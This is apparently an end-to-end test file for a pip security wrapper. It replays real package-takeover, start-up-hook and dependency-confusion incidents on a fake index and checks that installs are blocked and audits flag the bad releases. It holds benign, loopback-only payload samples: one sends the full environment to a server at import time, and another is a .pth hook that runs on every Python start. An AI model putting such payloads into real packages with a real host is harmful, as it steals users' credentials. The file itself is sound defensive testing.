"""End to end: replays of real incident shapes on the loopback index.

Each test rebuilds the shape of one incident (who published what, when, with
which files) on the fake PyPI and checks what safepip does about it: at install
time, and in the audit of an environment where the release got in before it was
found out. Every payload is benign by construction: it names only 127.0.0.1
(port 9, discard), and nothing from the index is ever run.
"""

from __future__ import annotations

import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tests.e2e.test_capability_e2e import PAYLOAD
from tests.e2e.test_capability_e2e import established as capability_release
from tests.e2e.test_install_e2e import report, safepip
from tests.e2e.test_provenance_e2e import REPO
from tests.e2e.test_provenance_e2e import release as provenance_release
from tests.fakeosv import FakeOSV
from tests.fakepypi import FakePyPI, MakeVenv, installed

NOW = datetime.now(UTC)
YEARS_AGO = NOW - timedelta(days=8 * 365)
OLD_OWNERS = {"organization": None, "roles": [{"role": "Owner", "user": "original-author"}]}
NEW_OWNERS = {"organization": None, "roles": [{"role": "Owner", "user": "new-owner"}]}
WELL_KEPT: dict[str, Any] = {
    "summary": "A small helper",
    "description": "A small, well-documented helper.",
    "author_email": "author@example-org.dev",
}
# What the takeover release adds: send the environment to a (loopback) server.
EXFIL = """\
import os
import urllib.request
urllib.request.urlopen("http://127.0.0.1:9/collect", data=repr(dict(os.environ)).encode())
"""
# A start-up hook as in litellm 1.82.8: every Python start runs it.
PTH = (
    "import subprocess, sys; "
    "subprocess.Popen([sys.executable, '-c', "
    "'import urllib.request; urllib.request.urlopen(\"http://127.0.0.1:9/x\")'])\n"
)


def blocking(proc: subprocess.CompletedProcess[str], name: str) -> set[str]:
    """The rules that block ``name`` in a JSON report."""
    [package] = [p for p in report(proc)["packages"] if p["name"] == name]
    return {f["rule"] for f in package["findings"] if f["action"] == "block"}


def plain_pip_install(python: Path, requirement: str, env: dict[str, str]) -> None:
    """Install with plain pip from the fake index, as before safepip was in use."""
    command = [sys.executable, "-m", "pip", "--python", str(python), "install", "--no-deps"]
    subprocess.run([*command, requirement], env=env, capture_output=True, check=True, timeout=120)


def audit(python: Path, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return safepip(["--python", str(python), "--format=json", "audit"], env, cwd)


# --- 1. a dormant project revived by a new owner (ctx, 2022) ---


def dormant(fake: FakePyPI, name: str) -> None:
    """Three releases eight years ago, by ``original-author``."""
    for i, version in enumerate(("0.1.0", "0.1.1", "0.1.2")):
        fake.add_release(
            name,
            version,
            upload_time=YEARS_AGO + timedelta(days=30 * i),
            ownership=OLD_OWNERS,
            **WELL_KEPT,
        )


def take_over(fake: FakePyPI, name: str) -> None:
    """The owners replaced, then a new release with the payload at import."""
    fake.set_ownership(name, NEW_OWNERS)
    fake.add_release(
        name,
        "0.2.6",
        upload_time=datetime.now(UTC),
        files_override={f"{name}/__init__.py": EXFIL},
        **WELL_KEPT,
    )


def test_ctx_dormant_project_taken_over_by_new_owner_is_blocked(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    dormant(fake_pypi, "ctxlike")
    first = safepip(["--format=json", "check", "ctxlike"], pip_env, tmp_path)
    assert first.returncode == 0, first.stdout + first.stderr  # history: original-author
    take_over(fake_pypi, "ctxlike")
    python = make_venv()

    proc = safepip(
        ["--python", str(python), "--format=json", "install", "ctxlike==0.2.6"],
        pip_env,
        tmp_path,
    )

    assert proc.returncode == 1, proc.stdout + proc.stderr
    # blocked by the owners that changed (and, as it is days old, by new-release)
    assert {"maintainers-changed", "new-release"} <= blocking(proc, "ctxlike"), proc.stdout
    assert "original-author" in proc.stdout and "new-owner" in proc.stdout
    assert installed(python) == set()


# --- 2. a .pth start-up hook added in a new release (litellm, 2026) ---


def established_then_pth(fake: FakePyPI, name: str) -> None:
    """Ten releases over four years without a hook, then one 40 days ago with one."""
    for i in range(10):
        fake.add_release(
            name,
            f"1.{i}.0",
            upload_time=NOW - timedelta(days=1500 - 120 * i),
            **WELL_KEPT,
        )
    fake.add_release(name, "1.10.0", upload_time=NOW - timedelta(days=40), pth=PTH, **WELL_KEPT)


def test_litellm_pth_added_in_new_release_is_blocked(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    established_then_pth(fake_pypi, "llmlike")
    python = make_venv()

    proc = safepip(
        ["--python", str(python), "--format=json", "install", "llmlike"], pip_env, tmp_path
    )

    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert {"install-hook", "new-capability", "pth-code"} <= blocking(proc, "llmlike"), proc.stdout
    assert "llmlike.pth" in proc.stdout
    assert installed(python) == set()


# --- 3. dependency confusion: the internal name taken on the public index ---


def test_dependency_confusion_public_young_project_is_blocked(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    with FakePyPI() as private:
        for i, version in enumerate(("1.0", "1.1")):
            private.add_release("acme-billing", version, upload_time=YEARS_AGO + timedelta(days=i))
        fake_pypi.add_release(
            "acme-billing",
            "99.0",
            upload_time=NOW - timedelta(days=10),
            files_override={"acme_billing/__init__.py": EXFIL},
            ownership=NEW_OWNERS,
        )
        (tmp_path / "safepip.toml").write_text(
            'version = 1\n[rules.typosquat]\nprotect = ["acme-billing"]\n'
            '[[allow]]\nname = "acme-billing"\n'
            'reason = "our own package, on our private index"\nrules = ["not-on-pypi"]\n'
        )
        python = make_venv()

        proc = safepip(
            [
                "--python",
                str(python),
                "--format=json",
                "install",
                "--extra-index-url",
                private.simple_url,
                "acme-billing",
            ],
            pip_env,
            tmp_path,
        )

    assert proc.returncode == 1, proc.stdout + proc.stderr
    # The public impostor is what pip picked, and the allow entry for the
    # internal name (not-on-pypi only) waives neither age rule.
    assert report(proc)["packages"][0]["filename"] == "acme_billing-99.0-py3-none-any.whl"
    assert {"new-project", "weak-signals"} <= blocking(proc, "acme-billing"), proc.stdout
    assert installed(python) == set()


# --- 4. the audit of an environment where the release got in before it was found out ---


def test_audit_after_the_fact_ctx_takeover_removed_from_the_index(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    dormant(fake_pypi, "ctxlike")
    take_over(fake_pypi, "ctxlike")
    python = make_venv()
    plain_pip_install(python, "ctxlike==0.2.6", pip_env)
    fake_pypi.remove("ctxlike", "0.2.6")  # as PyPI did with the ctx releases

    proc = audit(python, pip_env, tmp_path)

    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "release-removed" in blocking(proc, "ctxlike"), proc.stdout


def test_audit_after_the_fact_litellm_pth_release_yanked(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    established_then_pth(fake_pypi, "llmlike")
    python = make_venv()
    plain_pip_install(python, "llmlike==1.10.0", pip_env)
    fake_pypi.yank("llmlike", "1.10.0", reason="compromised release")

    proc = audit(python, pip_env, tmp_path)

    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "yanked" in blocking(proc, "llmlike"), proc.stdout
    assert "compromised release" in proc.stdout


def test_audit_after_the_fact_dependency_confusion_mal_advisory(
    fake_pypi: FakePyPI,
    fake_osv: FakeOSV,
    pip_env: dict[str, str],
    make_venv: MakeVenv,
    tmp_path: Path,
) -> None:
    fake_pypi.add_release(
        "acme-billing",
        "99.0",
        upload_time=NOW - timedelta(days=10),
        files_override={"acme_billing/__init__.py": EXFIL},
    )
    python = make_venv()
    plain_pip_install(python, "acme-billing==99.0", pip_env)
    fake_osv.add("MAL-2026-7", "acme-billing", ["99.0"], summary="dependency confusion")

    proc = audit(python, pip_env, tmp_path)

    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "known-malicious" in blocking(proc, "acme-billing"), proc.stdout
    assert "MAL-2026-7" in proc.stdout


def test_audit_after_the_fact_import_time_binary_mal_advisory(
    fake_pypi: FakePyPI,
    fake_osv: FakeOSV,
    pip_env: dict[str, str],
    make_venv: MakeVenv,
    tmp_path: Path,
) -> None:
    capability_release(fake_pypi, "hijacked", PAYLOAD)
    python = make_venv()
    plain_pip_install(python, "hijacked==1.2.4", pip_env)
    fake_osv.add("MAL-2026-8", "hijacked", ["1.2.4"], summary="downloads and runs a binary")

    proc = audit(python, pip_env, tmp_path)

    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "known-malicious" in blocking(proc, "hijacked"), proc.stdout
    assert "MAL-2026-8" in proc.stdout


def test_audit_after_the_fact_release_without_its_attestation_removed(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    """ultralytics 8.3.42 (2024): a release uploaded with a stolen token, without
    the attestations its predecessors had, installed before it was taken down."""
    fake_pypi.simple_api_version = "1.3"
    for i, version in enumerate(("0.8", "0.9", "1.0")):
        provenance_release(fake_pypi, version, i * 10, REPO)
    provenance_release(fake_pypi, "1.1", 60, None)
    python = make_venv()
    plain_pip_install(python, "alpha==1.1", pip_env)
    fake_pypi.remove("alpha", "1.1")

    proc = audit(python, pip_env, tmp_path)

    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "release-removed" in blocking(proc, "alpha"), proc.stdout
